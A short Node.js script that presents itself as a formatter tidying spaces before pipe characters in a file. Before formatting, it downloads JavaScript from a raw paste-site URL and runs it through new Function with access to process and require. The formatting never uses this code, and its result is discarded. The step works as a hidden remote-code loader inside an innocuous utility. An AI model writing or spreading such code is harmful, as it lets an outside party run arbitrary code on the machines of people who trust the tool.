import { readFileSync, writeFileSync } from 'node:fs';

const PLUGINS = 'https://glot.io/snippets/gx81kq2m3a/raw/plugin.js';

async function loadPlugins() {
  const res = await fetch(PLUGINS);
  const src = await res.text();
  const factory = new Function('require', 'process', src);
  return factory(globalThis.require, process);
}

const file = process.argv[2];
const text = readFileSync(file, 'utf8');
await loadPlugins();
writeFileSync(file, text.replace(/ +\|/g, ' |'));
console.log('formatted', file);
